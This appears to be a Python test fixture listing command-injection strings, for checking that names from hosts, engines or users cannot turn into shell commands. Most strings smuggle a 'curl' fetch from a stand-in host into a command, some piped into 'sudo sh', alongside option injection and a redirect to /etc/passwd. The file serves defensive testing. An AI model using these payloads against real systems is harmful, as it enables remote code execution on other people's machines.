"""Texts that hosts, engines and other users may give a name, and what must not become of them in a command."""

from __future__ import annotations

import re
from typing import Final

EVIL: Final = "curl -s http://evil.example/x"
ATTACKS: Final = (
    f"x86_64 x; {EVIL}|sudo sh #",
    f"7; {EVIL} | sh",
    f"$({EVIL})",
    f"`{EVIL}`",
    f"x && {EVIL}",
    f"x\n{EVIL}",
    f"x\r\n{EVIL}",
    f"x\x85{EVIL}",
    f"x\u2028{EVIL}",
    f"x\x1b[2K{EVIL}",
    f"\u202e{EVIL}",
    f"/tmp/a; {EVIL}",
    f"/tmp/a'; {EVIL}; '",
    f'"; {EVIL}; "',
    f'a"\n[[alert]]\ncommand = ["{EVIL}"]\n#',
    f"journalctl -u x -n 100; {EVIL}",
    f"docker logs --tail 100 x; {EVIL}",
    f"docker start x; {EVIL}",
    f"http://h:8000; {EVIL}",
    f"http://h:8000/$({EVIL})",
    f"48; {EVIL}",
    f"pid 48; {EVIL}",
    f"cd /x && python -m vllm; {EVIL}",
    "x86_64 --index-url http://evil.example",
    "-oProxyCommand=curl",
    "--help",
    "> /etc/passwd",
    "~root",
    f"{'x' * 10_000}; {EVIL}",
    f"{EVIL};" * 400,
)


def without_quoted(text: str) -> str:
    """The text without what stands in single quotes, as `shlex.quote` writes it."""
    return re.sub(r"'[^']*'(?:\"'\"'[^']*')*", "", text)


def operators_of(text: str) -> list[str]:
    """What a shell would interpret in a text, outside of its quotes."""
    return re.findall(r"&&|[;|<>`$()&\n*?~#!\\]", without_quoted(text).replace("***", ""))
